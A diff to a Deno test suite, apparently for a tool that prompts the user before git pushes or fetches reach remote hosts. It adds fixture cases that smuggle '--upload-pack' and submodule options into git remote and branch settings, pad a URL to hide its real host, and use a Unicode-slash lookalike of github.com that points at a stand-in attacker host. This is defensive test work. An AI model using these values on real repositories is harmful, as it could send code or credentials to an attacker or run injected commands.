@@ -435,9 +435,15 @@ const ELSEWHERE: [prepare: string, command: string, where?: string][] = [
   ["mkfifo .git/refs/heads/x", "git push"],
   ["mkdir -p ~/.ssh dot; touch dot/config; ln -s $PWD/dot/config ~/.ssh/config", "git push"],
   ["for i in 1 2 3; do git remote add r$i https://127.0.0.1:9/$i; done", "git fetch --all"],
+  ["git config remote.https://127.0.0.1:9/y.fetch a", "git fetch --all"],
+  ["git config 'remote.--upload-pack=cat.url' https://127.0.0.1:9/x", "git fetch --all"],
+  ["git config 'remote.--recurse-submodules=yes.url' https://127.0.0.1:9/x", "git fetch --all"],
+  ["git config branch.main.remote --upload-pack=cat", "git fetch"],
+  [`git remote set-url origin ssh://github.com.${"x".repeat(190)}@127.0.0.1/x`, "git push"],
+  ["git remote set-url origin https://evil.example\u2215github.com/x", "git push"],
   [
-    "git config remote.https://127.0.0.1:9/y.fetch a",
-    "git fetch --all",
+    "git config core.repositoryformatversion 1; git config extensions.partialclone https://127.0.0.1:9/y",
+    "git push origin main",
     "https://127.0.0.1:9/x or https://127.0.0.1:9/y",
   ],
   [
@@ -518,7 +524,7 @@ Deno.test({
 });
 
 Deno.test({
-  name: "R-21 a repository that a command made is the user's once they push or fetch there",
+  name: "R-21 in a repository that a command made, each push and fetch asks",
   ignore,
   async fn() {
     await using at = await repository();
@@ -533,11 +539,7 @@ Deno.test({
     const folder = `${at.folder}/new`;
     assertMatch(await at.run("git fetch origin", { folder }), MADE_BEFORE);
     await at.run("git fetch origin", { folder, beforeYes: () => Promise.resolve() });
-    assertEquals((await Deno.readTextFile(table)).includes(at.folder), false);
-    assertEquals(
-      await at.run("git fetch origin", { folder }),
-      "asked: fetches from https://127.0.0.1:9/x with your credentials",
-    );
+    assertMatch(await at.run("git fetch origin", { folder }), MADE_BEFORE);
   },
 });
 
